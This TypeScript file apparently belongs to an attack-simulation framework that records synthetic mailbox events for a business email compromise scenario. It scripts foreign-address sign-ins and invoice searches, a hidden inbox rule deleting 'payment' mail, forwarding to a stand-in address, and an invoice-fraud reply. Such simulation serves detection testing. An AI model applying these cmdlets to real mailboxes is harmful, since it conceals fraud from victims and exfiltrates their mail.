/** Password spraying pays off: search for invoices, read them, hide the answers with a rule, write in the victim's name. */
import type { Attack } from '../attack.ts';
import { owa } from '../clients/owa.ts';
import { cmdlet, searchQuery, send } from '../operations.ts';
import { DAY, HOUR, MINUTE } from '../time.ts';

const AGENT =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36';

export const attack: Attack = {
  title: 'Searching, reading, hiding rules and forwarding, then mail in the victim’s name',
  severity: 'high',
  play(stage) {
    const { trace } = stage;
    const victim = stage.victim();
    const { actor, mailbox } = victim;
    const start = stage.workday(0.5) + 7 * HOUR;
    for (let day = 0; day < 3; day++) {
      const at = start + day * DAY;
      const ip = stage.foreignAddress();
      const session = stage.session(at);
      stage.signIn(victim, session, ip, at, AGENT);
      const { page, proxy } = owa({ actor, session, ip, userAgent: AGENT, attack: trace });
      let time = at + MINUTE;
      for (const words of ['invoice', 'payment', 'IBAN']) {
        stage.record(time, searchQuery(stage.doer(actor, ip, session.id, time), page, words));
        time = stage.readBack(time + 10_000, mailbox, page, 9, [15, 60], 5);
      }
      const doer = stage.doer(actor, ip, session.id, time);
      if (day === 0) {
        const rule = `${stage.organization.name}/${victim.objectId}\\..`;
        const hide = { Name: '..', SubjectContainsWords: 'payment', DeleteMessage: 'True' };
        stage.record(time, cmdlet(doer, 'New-InboxRule', rule, hide));
        const forward = { Identity: mailbox.upn, ForwardingSmtpAddress: 'smtp:box@example.org' };
        stage.record(time, cmdlet(doer, 'Set-Mailbox', victim.objectId, forward));
      } else {
        stage.record(time, send(doer, mailbox, proxy, 'Re: invoice, new bank details'));
      }
    }
  },
};
